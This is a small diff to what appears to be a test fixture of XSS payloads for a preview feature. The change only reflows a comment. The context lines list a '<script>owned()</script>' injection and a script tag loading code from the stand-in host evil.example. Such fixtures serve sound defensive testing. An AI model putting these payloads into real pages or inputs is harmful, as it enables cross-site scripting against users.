@@ -1,4 +1,7 @@
-/** Speeches made to run a script in the preview. Each that succeeds calls `owned()`, or leaves the page, or loads something. */
+/**
+ * Speeches made to run a script in the preview. Each that succeeds calls `owned()`, or leaves the
+ * page, or loads something.
+ */
 const html = [
   '<script>owned()</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
